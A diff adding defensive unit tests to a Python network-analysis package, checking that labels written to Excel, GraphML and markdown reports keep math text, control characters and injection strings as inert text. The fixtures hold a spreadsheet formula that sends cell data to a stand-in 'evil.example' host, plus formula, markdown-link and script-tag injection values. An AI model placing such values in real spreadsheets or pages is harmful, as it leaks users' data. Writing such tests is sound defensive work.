@@ -276,3 +276,63 @@ def test_report_with_hostile_labels(make_dataset: MakeDataset, tmp_path: Path) -
     actors_csv = next((out / "tables").glob("actors_2016*.csv"))
     cells = pd.read_csv(actors_csv, dtype=str, keep_default_na=False)["label"]
     assert "'=A1" in cells.tolist() and "=A1" not in cells.tolist()
+
+
+# ----------------------------------------------------------------------------- fixed examples
+def test_math_text_in_labels_is_drawn_as_written(tmp_path: Path) -> None:
+    groups = ["Fonds $1__2$", "$\\notacommand$", "Budget $^$"]
+    mixing = pd.DataFrame(0.5, index=groups, columns=groups)
+    fig, _ = plot_mixing_heatmap(mixing, title="Titel $x^$")
+    png, svg = save_figure(fig, tmp_path / "m.png", formats=("png", "svg"))
+    assert png.stat().st_size > 0
+    text = svg.read_text(encoding="utf-8")
+    for group in groups:  # matplotlib keeps each text as a comment beside its glyphs
+        assert f"<!-- {group} -->" in text
+
+
+def test_formula_like_ids_and_labels_survive_a_convert_round_trip(
+    make_dataset: MakeDataset, tmp_path: Path
+) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
+    folder = make_dataset("id,label\nb,B\nc,C\n", "source,target\n=A1,b\nb,c\n")
+    pd.DataFrame({"id": ["=A1", "b", "c"], "label": [hyperlink, "#N/A", "@SUM(A1)"]}).to_csv(
+        folder / "actors.csv", index=False
+    )
+    net = coopnet.load(folder)
+    for name in ("x.xlsx", "x.graphml", "x"):
+        back = coopnet.load(net.write(tmp_path / name))
+        assert back.actors.set_index("id")["label"].to_dict() == {
+            "=A1": hyperlink, "b": "#N/A", "c": "@SUM(A1)"
+        }, name  # fmt: skip
+    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
+    assert all(
+        c.data_type == "s" for s in book.worksheets for r in s.iter_rows() for c in r if c.value
+    )
+
+
+def test_control_characters_do_not_crash_the_excel_writers(tmp_path: Path) -> None:
+    frame = pd.DataFrame({"label\x00": ["NUL\x00", "Word\x0b", "ESC\x1b[0m"], "n": [1, 2, 3]})
+    write_tables({"t": frame}, tmp_path / "tables")  # the report's tables: cleaned
+    values = [
+        c.value
+        for r in openpyxl.load_workbook(tmp_path / "tables" / "tables.xlsx").active.iter_rows()
+        for c in r
+    ]
+    assert "Word " in values and "NUL\ufffd" in values and "label\ufffd" in values
+
+
+def test_findings_markdown_escapes_period_and_group_column() -> None:
+    finding = Finding(
+        code="silo_group", severity="high", statement="S.", evidence=(), actors=(), groups=(),
+        question="Q?", period="**2022** [x](http://evil)", strength=1.0,
+    )  # fmt: skip
+    diagnosis = Diagnosis(
+        findings=[finding], dataset="D", periods=("**2022** [x](http://evil)",), lang="en",
+        group="a`b<script>",
+    )  # fmt: skip
+    folder = _tmp()
+    write_findings_files(diagnosis, folder)
+    markdown = (folder / "findings.md").read_text(encoding="utf-8")
+    assert "## \\*\\*2022\\*\\* \\[x\\](http://evil)" in markdown
+    assert "Grouping: a\\`b\\<script\\>" in markdown
+    assert "<script>" not in markdown and "**2022**" not in markdown
